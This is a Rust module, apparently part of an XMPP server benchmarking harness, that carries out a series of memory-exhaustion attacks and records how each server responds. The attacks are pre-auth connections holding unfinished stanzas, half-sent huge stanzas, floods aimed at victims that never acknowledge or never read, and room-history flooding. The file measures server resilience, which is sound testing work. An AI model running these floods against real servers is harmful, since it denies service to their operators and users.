//! The attacks themselves, each on one thread with its own executor: set up
//! (connections, logins, rooms), send, report "in place", then hold every
//! attacking connection open (reading what the server sends, except where
//! not reading is the attack) until `Ctx::stop`, and close them all.

use std::cell::{Cell, RefCell};
use std::collections::BTreeMap;
use std::net::IpAddr;
use std::rc::Rc;
use std::sync::atomic::Ordering;
use std::sync::mpsc;
use std::time::{Duration, Instant};

use async_executor::LocalExecutor;
use futures_lite::FutureExt as _;
use xerra::xmpp::element::Element;
use xerra::xmpp::ns;

use super::{Ctx, Fields, field};
use crate::client::{self, KeyCache, Session, Target};
use crate::procfs;
use crate::scenarios::{bare, join_room, login_many};

/// The victim (users 3) and the attacker's own account (4); halfsent-many
/// uses 5 and up.
const VICTIM: usize = 3;
const ATTACKER: usize = 4;
const FIRST_MANY: usize = 5;
/// Each step of an attacking connection (connect, an answer) at most.
const STEP: Duration = Duration::from_secs(10);
/// Sending a flood (and the server answering a ping after it) at most: a
/// slow server still gets all of it (Prosody takes about 2.2 s per stanza
/// of 25,000 elements here).
const FLOOD_LIMIT: Duration = Duration::from_secs(400);
/// Room for the stream header and framing under a server's stanza limit.
const MARGIN: usize = 256;
/// A domain nobody serves, in a name space nothing resolves (RFC 6761).
const FAKE_DOMAIN: &str = "attacker.invalid";
/// Why a step did not finish: sending was ended first (the RSS ceiling).
const STOPPED: &str = "stopped";
/// The extension element that carries the bulk of a flood stanza.
const PAD_NS: &str = "urn:xerra:bench:pad";

/// `f`, or "timed out" after `d`.
async fn within<T>(d: Duration, f: impl Future<Output = Result<T, String>>) -> Result<T, String> {
	f.or(async {
		async_io::Timer::after(d).await;
		Err("timed out".to_string())
	})
	.await
}

/// `f`, or "stopped" once nothing more is to be sent.
async fn or_stop<T>(ctx: &Ctx, f: impl Future<Output = Result<T, String>>) -> Result<T, String> {
	f.or(async {
		while !ctx.no_more() {
			async_io::Timer::after(Duration::from_millis(50)).await;
		}
		Err(STOPPED.to_string())
	})
	.await
}

/// A short word for why a connection ended (the stream error condition when
/// the server sent one).
fn reason(e: &str) -> String {
	if let Some(c) = e.strip_prefix("stream error ") {
		return c.to_string();
	}
	let words = [
		("server closed", "closed"),
		("reset", "reset"),
		("refused", "refused"),
		("timed out", "timeout"),
		("Broken pipe", "reset"),
		("TLS", "tls-failed"),
		("STARTTLS", "no-starttls"),
	];
	words
		.iter()
		.find(|(w, _)| e.contains(w))
		.map_or_else(|| e.chars().filter(|c| !c.is_whitespace()).take(40).collect(), |(_, r)| r.to_string())
}

/// Why a connection ended early: `None` when the attack was ended first.
fn closed(e: &str) -> Option<String> {
	(e != STOPPED).then(|| reason(e))
}

/// "cond:count,..." of a tally.
fn tally(t: &BTreeMap<String, usize>) -> String {
	let parts: Vec<String> = t.iter().map(|(k, v)| format!("{k}:{v}")).collect();
	if parts.is_empty() { "-".into() } else { parts.join(",") }
}

/// `head`, then `<a/>` elements (at most `max_elements`) and text up to
/// `total` bytes, then `tail`; and how many `<a/>` there are. Small elements
/// are what costs a server most that keeps stanzas as trees.
fn stuffed(head: &str, tail: &str, total: usize, max_elements: usize) -> (String, usize) {
	let room = total.saturating_sub(head.len() + tail.len());
	let n = (room / 4).min(max_elements);
	let mut s = String::with_capacity(total);
	s.push_str(head);
	s.push_str(&"<a/>".repeat(n));
	s.extend(std::iter::repeat_n('x', room - 4 * n));
	s.push_str(tail);
	(s, n)
}

/// How many `<a/>` a stanza may carry under a server's element limit (room
/// for the stanza's other elements).
fn max_elements(ctx: &Ctx) -> usize {
	ctx.limits.children.saturating_sub(100)
}

/// The most of `want` bytes a stanza may have under `limit`.
fn fit(limit: usize, want: usize) -> usize {
	want.min(limit.saturating_sub(MARGIN))
}

/// Says when the server's element limit, not the size, bounded a stanza.
fn element_limit(fields: &mut Fields, ctx: &Ctx, elements: usize) {
	if elements >= max_elements(ctx) {
		field(fields, "elements_limit", ctx.limits.children);
	}
}

/// The unfinished pre-auth `<iq>`: a 4000-character namespace and 2900
/// `<a/>` (15.7 KB), or as much of that as fits under `limit` bytes and
/// `elements`.
fn preauth_payload(limit: usize, elements: usize) -> String {
	let cap = fit(limit, usize::MAX);
	let ns_len = 4000.min(cap / 2);
	let mut s = format!("<iq xmlns='urn:{}'>", "x".repeat(ns_len));
	let n = 2900.min(cap.saturating_sub(s.len()) / 4).min(elements);
	s.push_str(&"<a/>".repeat(n));
	s
}

/// Runs attack `name`; `placed` is sent once it is in place.
pub fn run(ctx: &Ctx, name: &str, placed: mpsc::Sender<()>) -> Result<Fields, String> {
	let ex = LocalExecutor::new();
	let placed = move || {
		let _ = placed.send(());
	};
	async_io::block_on(ex.run(async {
		match name {
			"preauth-c2s-tls" => Ok(junk(&ex, ctx, false, true, ctx.n(100), placed).await),
			"preauth-c2s-plain" => Ok(junk(&ex, ctx, false, false, ctx.n(100), placed).await),
			"preauth-s2s-tls" => Ok(junk(&ex, ctx, true, true, ctx.n(50), placed).await),
			"preauth-s2s-plain" => Ok(junk(&ex, ctx, true, false, ctx.n(50), placed).await),
			"halfsent-one" => halfsent(&ex, ctx, 1, placed).await,
			"halfsent-many" => halfsent(&ex, ctx, ctx.n(100), placed).await,
			"sm-noack" => flood(&ex, ctx, Victim::NoAck, Shape::Elements, placed).await,
			"never-read" => flood(&ex, ctx, Victim::NeverRead, Shape::Elements, placed).await,
			"csi" => flood(&ex, ctx, Victim::Inactive, Shape::Elements, placed).await,
			"muc-history" => rooms(ctx, 4, false, Shape::Elements, placed).await,
			"rooms-restart" => rooms(ctx, 3, true, Shape::Elements, placed).await,
			"sm-noack-text" => flood(&ex, ctx, Victim::NoAck, Shape::Text, placed).await,
			"never-read-text" => flood(&ex, ctx, Victim::NeverRead, Shape::Text, placed).await,
			"csi-text" => flood(&ex, ctx, Victim::Inactive, Shape::Text, placed).await,
			"muc-history-text" => rooms(ctx, 4, false, Shape::Text, placed).await,
			"rooms-restart-text" => rooms(ctx, 3, true, Shape::Text, placed).await,
			other => Err(format!("unknown attack {other}")),
		}
	}))
}

/// Waits until the server has read what was sent to its c2s port and its
/// RSS stopped growing (30 s at most), or made no progress for a second (a
/// server may choose not to read). Reading the socket alone is not enough:
/// a server that reads connections in turn takes in a burst long after it
/// was sent.
async fn settle(ctx: &Ctx) {
	let deadline = Instant::now() + Duration::from_secs(30);
	let port = ctx.target.port;
	let (mut unread, mut rss) = (procfs::unread_on_port(port), (ctx.rss)());
	let mut progress = Instant::now();
	while Instant::now() < deadline && !ctx.no_more() {
		async_io::Timer::after(Duration::from_millis(100)).await;
		let (u, r) = (procfs::unread_on_port(port), (ctx.rss)());
		if u < unread || r > rss + 1024 {
			progress = Instant::now();
		}
		(unread, rss) = (u, r);
		let still = progress.elapsed();
		if (u == 0 && still >= Duration::from_millis(300)) || still >= Duration::from_secs(1) {
			return;
		}
	}
}

/// Waits until `done` reaches `n` (or the attack is stopped).
async fn all_done(done: &Cell<usize>, n: usize, ctx: &Ctx) {
	while done.get() < n && !ctx.no_more() {
		async_io::Timer::after(Duration::from_millis(20)).await;
	}
}

/// Holds a connection open, reading and dropping what comes, until the
/// attack ends (`None`) or the server closes it (why).
async fn hold(s: &mut Session, ctx: &Ctx) -> Option<String> {
	while !ctx.stop.load(Ordering::Relaxed) {
		if let Err(e) = s.drain(Duration::from_millis(100)).await {
			return Some(reason(&e));
		}
	}
	None
}

/// How one attacking connection went.
#[derive(Default)]
struct ConnEnd {
	/// Got as far as sending its payload.
	opened: bool,
	/// The payload went out whole.
	sent: bool,
	/// Why it ended before the attack did; `None`: held to the end.
	closed: Option<String>,
}

fn conn_fields(fields: &mut Fields, ends: &[ConnEnd]) {
	let mut how = BTreeMap::new();
	for e in ends {
		if let Some(r) = &e.closed {
			*how.entry(r.clone()).or_insert(0) += 1;
		}
	}
	field(fields, "opened", ends.iter().filter(|e| e.opened).count());
	field(fields, "sent", ends.iter().filter(|e| e.sent).count());
	field(fields, "closed_by_server", ends.iter().filter(|e| e.closed.is_some()).count());
	field(fields, "closed_how", tally(&how));
	field(fields, "held", ends.iter().filter(|e| e.closed.is_none()).count());
}

/// Attacks 1 and 2: `n` connections that never authenticate, each with an
/// unfinished stanza under the pre-auth limit, held open.
async fn junk<'a>(ex: &LocalExecutor<'a>, ctx: &'a Ctx, s2s: bool, tls: bool, n: usize, placed: impl FnOnce()) -> Fields {
	let limit = if s2s { ctx.limits.s2s_preauth } else { ctx.limits.c2s_preauth };
	let payload: Rc<str> = preauth_payload(limit, max_elements(ctx)).into();
	let connector = client::tls_connector();
	let done = Rc::new(Cell::new(0));
	let tasks: Vec<_> = (0..n)
		.map(|_| {
			let (payload, connector, done) = (payload.clone(), connector.clone(), done.clone());
			ex.spawn(async move {
				let mut end = ConnEnd::default();
				let setup = async {
					let mut t = ctx.target.clone();
					let header = if s2s {
						t.port = ctx.s2s_port;
						format!(
							"<?xml version='1.0'?><stream:stream xmlns='jabber:server' xmlns:stream='{}' xmlns:db='jabber:server:dialback' from='{FAKE_DOMAIN}' to='{}' version='1.0'>",
							ns::STREAM,
							t.domain
						)
					} else {
						client::client_header(&t.domain)
					};
					let mut s = within(STEP, client::connect(&t, None)).await?;
					let features = within(STEP, s.open_with(&header)).await?;
					if tls {
						if features.child("starttls", ns::TLS).is_none() {
							return Err("STARTTLS not offered".to_string());
						}
						within(STEP, s.starttls(&connector, &t.domain)).await?;
						within(STEP, s.open_with(&header)).await?;
					}
					Ok(s)
				};
				let mut s = match or_stop(ctx, setup).await {
					Ok(s) => s,
					Err(e) => {
						end.closed = closed(&e);
						done.set(done.get() + 1);
						return end;
					}
				};
				end.opened = true;
				let sent = or_stop(ctx, s.send_reading(payload.as_bytes(), STEP)).await;
				done.set(done.get() + 1);
				match sent {
					Ok(()) => end.sent = true,
					// Past the ceiling: held with what it has sent.
					Err(e) if e == STOPPED => {}
					Err(e) => {
						end.closed = closed(&e);
						return end;
					}
				}
				end.closed = hold(&mut s, ctx).await;
				end
			})
		})
		.collect();
	all_done(&done, n, ctx).await;
	placed();
	let mut ends = Vec::new();
	for t in tasks {
		ends.push(t.await);
	}
	let mut fields = Fields::new();
	field(&mut fields, "conns", n);
	field(&mut fields, "bytes_each", payload.len());
	field(&mut fields, "wanted_bytes", preauth_payload(usize::MAX, usize::MAX).len());
	field(&mut fields, "limit", limit);
	field(&mut fields, "tls", u8::from(tls));
	conn_fields(&mut fields, &ends);
	fields
}

/// Attack 3: `n` logged-in clients each send most of one 246 KB stanza
/// (`<a/>` children in an extension element with a 4000-character
/// namespace) and never its end.
async fn halfsent<'a>(ex: &LocalExecutor<'a>, ctx: &'a Ctx, n: usize, placed: impl FnOnce()) -> Result<Fields, String> {
	let ids: Vec<usize> = (FIRST_MANY..FIRST_MANY + n).collect();
	let (sessions, _, errs) =
		within(Duration::from_secs(120), async { Ok(login_many(ex, &ctx.target, ids, ctx.concurrency.min(n)).await) }).await?;
	let total = fit(ctx.limits.c2s_stanza, 246_000);
	// The extension element has the pre-auth attack's long namespace, which
	// its <a/> children are in too.
	let head = format!("<message type='chat' to='{}'><body>half</body><x xmlns='urn:{}'>", bare(&ctx.target.jid(VICTIM)), "x".repeat(4000));
	let (payload, elements) = stuffed(&head, "", total, max_elements(ctx));
	let logged_in = sessions.len();
	// One after the other, each once the server took the last one in: a
	// server that turns each into hundreds of MiB would otherwise have all
	// of them in its socket buffers before the ceiling could stop them.
	let mut tasks = Vec::new();
	for mut s in sessions {
		let mut end = ConnEnd { opened: true, ..ConnEnd::default() };
		let sent = if ctx.no_more() { Err(STOPPED.to_string()) } else { or_stop(ctx, s.send_reading(payload.as_bytes(), 3 * STEP)).await };
		match sent {
			Ok(()) => end.sent = true,
			// Past the ceiling: held with what it has sent.
			Err(e) if e == STOPPED => {}
			Err(e) => end.closed = closed(&e),
		}
		if end.closed.is_none() {
			settle(ctx).await;
		}
		tasks.push(ex.spawn(async move {
			if end.closed.is_none() {
				end.closed = hold(&mut s, ctx).await;
			}
			end
		}));
	}
	placed();
	let mut ends = Vec::new();
	for t in tasks {
		ends.push(t.await);
	}
	let mut fields = Fields::new();
	field(&mut fields, "conns", n);
	field(&mut fields, "logged_in", logged_in);
	if let Some(e) = errs.first() {
		field(&mut fields, "login_failed", errs.len());
		field(&mut fields, "login_error", reason(e));
	}
	field(&mut fields, "bytes_each", payload.len());
	field(&mut fields, "wanted_bytes", 246_000);
	field(&mut fields, "elements_each", elements);
	element_limit(&mut fields, ctx, elements);
	field(&mut fields, "limit", ctx.limits.c2s_stanza);
	conn_fields(&mut fields, &ends);
	Ok(fields)
}

/// What the big stanzas of the queue attacks are made of.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Shape {
	/// Mostly small elements (`<a/>`): what costs a server most that keeps
	/// stanzas as trees, and what a server may refuse to parse.
	Elements,
	/// Text: what every server takes, so the queues themselves are tried.
	Text,
}

impl Shape {
	fn elements(self, ctx: &Ctx) -> usize {
		match self {
			Shape::Elements => max_elements(ctx),
			Shape::Text => 0,
		}
	}
}

/// What the victim of a flood does.
#[derive(Clone, Copy, PartialEq)]
enum Victim {
	/// Enables stream management with resumption, reads everything, never acks.
	NoAck,
	/// Stops reading its socket.
	NeverRead,
	/// Says it is inactive (XEP-0352) and reads everything.
	Inactive,
}

/// The stanza error condition of an error stanza, if it is one.
fn stanza_error(el: &Element) -> Option<String> {
	(el.attr("type") == Some("error")).then(|| {
		el.children()
			.find(|c| c.name() == "error")
			.and_then(|e| e.children().find(|c| c.ns() == ns::STANZAS && c.name() != "text"))
			.map_or("?".into(), |c| c.name().to_string())
	})
}

/// Counts the error stanzas among what is queued or arrives within `wait`.
async fn count_bounces(s: &mut Session, wait: Duration, bounces: &mut BTreeMap<String, usize>) -> Result<(), String> {
	let deadline = Instant::now() + wait;
	loop {
		match s.next(deadline.saturating_duration_since(Instant::now())).await {
			Ok(el) => {
				if let Some(c) = stanza_error(&el) {
					*bounces.entry(c).or_insert(0) += 1;
				}
			}
			Err(e) if e == "timed out" => return Ok(()),
			Err(e) => return Err(e),
		}
	}
}

/// Sends `stanzas` as fast as the server takes them, counting the errors
/// that come back; then a ping, which a server answers after everything
/// before it. Returns (sent, synced, why the attacker's stream ended).
async fn send_all(
	ctx: &Ctx,
	s: &mut Session,
	stanzas: impl Iterator<Item = String>,
	bounces: &mut BTreeMap<String, usize>,
) -> (usize, bool, Option<String>) {
	let deadline = Instant::now() + FLOOD_LIMIT;
	let mut sent = 0;
	for xml in stanzas {
		let left = deadline.saturating_duration_since(Instant::now());
		if let Err(e) = or_stop(ctx, s.send_reading(xml.as_bytes(), left)).await {
			return (sent, false, closed(&e));
		}
		sent += 1;
		if let Err(e) = count_bounces(s, Duration::ZERO, bounces).await {
			return (sent, false, Some(reason(&e)));
		}
	}
	let left = deadline.saturating_duration_since(Instant::now());
	let synced = or_stop(ctx, s.iq("<iq type='get' id='{id}'><ping xmlns='urn:xmpp:ping'/></iq>", left)).await;
	let _ = count_bounces(s, Duration::ZERO, bounces).await;
	match synced {
		Ok(_) => (sent, true, None),
		Err(e) if e.starts_with("iq error") || e == "timed out" || e == STOPPED => (sent, false, None),
		Err(e) => (sent, false, Some(reason(&e))),
	}
}

async fn login(t: &Target, n: usize) -> Result<Session, String> {
	let keys = RefCell::new(KeyCache::default());
	within(Duration::from_secs(60), async { Ok(client::login(t, n, &client::tls_connector(), &keys).await?.0) }).await
}

/// `from` subscribes to `to`'s presence and `to` approves (RFC 6121 §3.1).
async fn subscribe(from: &mut Session, to: &mut Session) -> Result<(), String> {
	let (from_bare, to_bare) = (bare(&from.jid), bare(&to.jid));
	from.send(&format!("<presence to='{to_bare}' type='subscribe'/>")).await?;
	loop {
		let el = to.next(STEP).await.map_err(|e| format!("waiting for the subscription request: {e}"))?;
		if el.name() == "presence" && el.attr("type") == Some("subscribe") && el.attr("from").is_some_and(|f| bare(f) == from_bare) {
			break;
		}
	}
	to.send(&format!("<presence to='{from_bare}' type='subscribed'/>")).await?;
	// Then the contact's presence comes (§3.1.6); not every server is quick
	// about it, so a miss is no failure.
	let deadline = Instant::now() + Duration::from_secs(3);
	while let Ok(el) = from.next(deadline.saturating_duration_since(Instant::now())).await {
		if el.name() == "presence" && el.attr("type").is_none() && el.attr("from").is_some_and(|f| bare(f) == to_bare) {
			break;
		}
	}
	Ok(())
}

/// Attacks 4, 5 and 7: a victim session, and an attacker account sending it
/// large stanzas: messages (240 KB) or, for CSI, presence updates (200 KB).
async fn flood<'a>(ex: &LocalExecutor<'a>, ctx: &'a Ctx, kind: Victim, shape: Shape, placed: impl FnOnce()) -> Result<Fields, String> {
	let t = &ctx.target;
	let mut fields = Fields::new();
	let mut victim = login(t, VICTIM).await.map_err(|e| format!("victim login: {e}"))?;
	let mut attacker = login(t, ATTACKER).await.map_err(|e| format!("attacker login: {e}"))?;
	let offers = |s: &Session, name: &str, ns: &str| s.features.as_ref().is_some_and(|f| f.child(name, ns).is_some());
	match kind {
		Victim::NoAck if offers(&victim, "sm", ns::SM) => {
			victim.send("<enable xmlns='urn:xmpp:sm:3' resume='true'/>").await?;
			let state = loop {
				match victim.next(STEP).await {
					Ok(el) if el.name() == "enabled" => break "enabled".to_string(),
					Ok(el) if el.name() == "failed" => break "failed".to_string(),
					Ok(_) => {}
					Err(e) => break format!("no-answer:{}", reason(&e)),
				}
			};
			field(&mut fields, "sm", state);
		}
		Victim::NoAck => field(&mut fields, "sm", "not-offered"),
		Victim::Inactive => {
			subscribe(&mut attacker, &mut victim).await?;
			subscribe(&mut victim, &mut attacker).await?;
			if offers(&victim, "csi", ns::CSI) {
				victim.send("<inactive xmlns='urn:xmpp:csi:0'/>").await?;
				field(&mut fields, "csi", "inactive");
			} else {
				field(&mut fields, "csi", "not-offered");
			}
		}
		Victim::NeverRead => {}
	}
	let count = ctx.n(100);
	let victim_jid = victim.jid.clone();
	// The victim, until the attack ends: (messages, presences it read, why it ended).
	let victim_task = ex.spawn(async move {
		let mut got = (0u64, 0u64);
		let mut end = None;
		while !ctx.stop.load(Ordering::Relaxed) {
			if kind == Victim::NeverRead {
				async_io::Timer::after(Duration::from_millis(100)).await;
				continue;
			}
			match victim.drain(Duration::from_millis(100)).await {
				Ok((m, other)) => {
					got.0 += m;
					got.1 += other;
				}
				Err(e) => {
					end = Some(reason(&e));
					break;
				}
			}
		}
		victim.close().await;
		(got, end)
	});
	let (total, elements) = (fit(ctx.limits.c2s_stanza, if kind == Victim::Inactive { 200_000 } else { 240_000 }), shape.elements(ctx));
	let stanza = move |i: usize| {
		if kind == Victim::Inactive && shape == Shape::Text {
			// Chat states wait for an inactive client (a presence is
			// replaced by the next one from the same sender).
			stuffed(
				&format!("<message type='chat' to='{victim_jid}' id='f{i}'><composing xmlns='http://jabber.org/protocol/chatstates'>"),
				"</composing></message>",
				total,
				0,
			)
		} else if kind == Victim::Inactive {
			stuffed(&format!("<presence id='f{i}'><status>{i}</status><x xmlns='{PAD_NS}'>"), "</x></presence>", total, elements)
		} else {
			stuffed(
				&format!("<message type='chat' to='{victim_jid}' id='f{i}'><body>{i}</body><x xmlns='{PAD_NS}'>"),
				"</x></message>",
				total,
				elements,
			)
		}
	};
	let elements_each = stanza(0).1;
	let stanzas = (0..count).map(|i| stanza(i).0);
	let mut bounces = BTreeMap::new();
	let (sent, synced, mut attacker_end) = send_all(ctx, &mut attacker, stanzas, &mut bounces).await;
	placed();
	while attacker_end.is_none() && !ctx.stop.load(Ordering::Relaxed) {
		if let Err(e) = count_bounces(&mut attacker, Duration::from_millis(100), &mut bounces).await {
			attacker_end = Some(reason(&e));
		}
	}
	attacker.close().await;
	let ((messages, other), victim_end) = victim_task.await;
	field(&mut fields, "count", count);
	field(&mut fields, "bytes_each", total);
	field(&mut fields, "wanted_bytes", if kind == Victim::Inactive { 200_000 } else { 240_000 });
	field(&mut fields, "elements_each", elements_each);
	element_limit(&mut fields, ctx, elements_each);
	field(&mut fields, "limit", ctx.limits.c2s_stanza);
	field(&mut fields, "sent", sent);
	field(&mut fields, "synced", u8::from(synced));
	field(&mut fields, "bounced", bounces.values().sum::<usize>());
	field(&mut fields, "bounce_how", tally(&bounces));
	field(&mut fields, "attacker_closed", attacker_end.unwrap_or_else(|| "-".into()));
	if kind != Victim::NeverRead {
		field(&mut fields, "victim_got_msgs", messages);
		field(&mut fields, "victim_got_other", other);
	}
	field(&mut fields, "victim_closed", victim_end.unwrap_or_else(|| "-".into()));
	Ok(fields)
}

fn room_jid(t: &Target, i: usize) -> String {
	format!("abuse{i}@rooms.{}", t.domain)
}

/// Attacks 6 and 8: the attacker makes `n` rooms (persistent ones for 8) and
/// sends 20 x 240 KB messages to each, which stay as the room's history.
async fn rooms(ctx: &Ctx, n: usize, persistent: bool, shape: Shape, placed: impl FnOnce()) -> Result<Fields, String> {
	let t = &ctx.target;
	let mut fields = Fields::new();
	let mut a = login(t, ATTACKER).await.map_err(|e| format!("attacker login: {e}"))?;
	let mut confirmed = 0;
	for i in 1..=n {
		let room = room_jid(t, i);
		within(Duration::from_secs(60), join_room(&mut a, &room, "attacker")).await?;
		if persistent {
			let form = "<x xmlns='jabber:x:data' type='submit'>\
				<field var='FORM_TYPE'><value>http://jabber.org/protocol/muc#roomconfig</value></field>\
				<field var='muc#roomconfig_persistentroom'><value>1</value></field></x>";
			a.iq(
				&format!("<iq type='set' id='{{id}}' to='{room}'><query xmlns='http://jabber.org/protocol/muc#owner'>{form}</query></iq>"),
				STEP,
			)
			.await
			.map_err(|e| format!("making {room} persistent: {e}"))?;
			let info = a.iq(&format!("<iq type='get' id='{{id}}' to='{room}'><query xmlns='{}'/></iq>", ns::DISCO_INFO), STEP).await?;
			let features = info.children().flat_map(|q| q.children());
			if features.filter(|f| f.name() == "feature").any(|f| f.attr("var") == Some("muc_persistent")) {
				confirmed += 1;
			}
		}
	}
	let per_room = ctx.n(20);
	let (total, elements) = (fit(ctx.limits.c2s_stanza, 240_000), shape.elements(ctx));
	let stanza = |i: usize, k: usize| {
		let head = format!("<message type='groupchat' to='{}' id='r{i}-{k}'><body>{k}</body><x xmlns='{PAD_NS}'>", room_jid(t, i));
		stuffed(&head, "</x></message>", total, elements)
	};
	let elements_each = stanza(1, 0).1;
	let stanzas = (0..per_room).flat_map(|k| (1..=n).map(move |i| (i, k))).map(|(i, k)| stanza(i, k).0);
	let mut bounces = BTreeMap::new();
	let (sent, synced, mut attacker_end) = send_all(ctx, &mut a, stanzas, &mut bounces).await;
	placed();
	while attacker_end.is_none() && !ctx.stop.load(Ordering::Relaxed) {
		if let Err(e) = count_bounces(&mut a, Duration::from_millis(100), &mut bounces).await {
			attacker_end = Some(reason(&e));
		}
	}
	// Leaving: a temporary room goes away with its last occupant.
	a.close().await;
	field(&mut fields, "rooms", n);
	if persistent {
		field(&mut fields, "persistent_confirmed", confirmed);
	}
	field(&mut fields, "count", n * per_room);
	field(&mut fields, "bytes_each", total);
	field(&mut fields, "wanted_bytes", 240_000);
	field(&mut fields, "elements_each", elements_each);
	element_limit(&mut fields, ctx, elements_each);
	field(&mut fields, "limit", ctx.limits.c2s_stanza);
	field(&mut fields, "sent", sent);
	field(&mut fields, "synced", u8::from(synced));
	field(&mut fields, "bounced", bounces.values().sum::<usize>());
	field(&mut fields, "bounce_how", tally(&bounces));
	field(&mut fields, "attacker_closed", attacker_end.unwrap_or_else(|| "-".into()));
	Ok(fields)
}

/// After rooms-restart: user `n` (from `source`) joins the first room asking
/// for its whole history; how many messages came back, or `Err` with why
/// not (`room gone` when the join made a new room).
pub fn room_history(t: &Target, source: IpAddr, n: usize) -> Result<usize, String> {
	let room = room_jid(t, 1);
	async_io::block_on(within(Duration::from_secs(120), async {
		let keys = RefCell::new(KeyCache::default());
		let (mut s, _) = client::login_from(t, n, &client::tls_connector(), &keys, Some(source)).await?;
		s.send(&format!(
			"<presence to='{room}/reader'><x xmlns='http://jabber.org/protocol/muc'><history maxstanzas='1000'/></x></presence>"
		))
		.await?;
		// History, then the subject (XEP-0045 §7.2.15); a server loading the
		// history from its archive may take a while before the first.
		let mut history = 0;
		loop {
			let el = s.next(Duration::from_secs(60)).await.map_err(|e| format!("after {history} history messages: {e}"))?;
			let status = |code: &str| {
				el.children()
					.filter(|x| x.name() == "x")
					.flat_map(|x| x.children())
					.any(|c| c.name() == "status" && c.attr("code") == Some(code))
			};
			match el.name() {
				"message" if el.children().any(|c| c.name() == "subject") => break,
				"message" if el.children().any(|c| c.name() == "body") => history += 1,
				"presence" if el.attr("type") == Some("error") => {
					return Err(format!("join refused: {}", stanza_error(&el).unwrap_or_default()));
				}
				"presence" if status("201") => return Err("room gone".into()),
				_ => {}
			}
		}
		s.close().await;
		Ok(history)
	}))
}
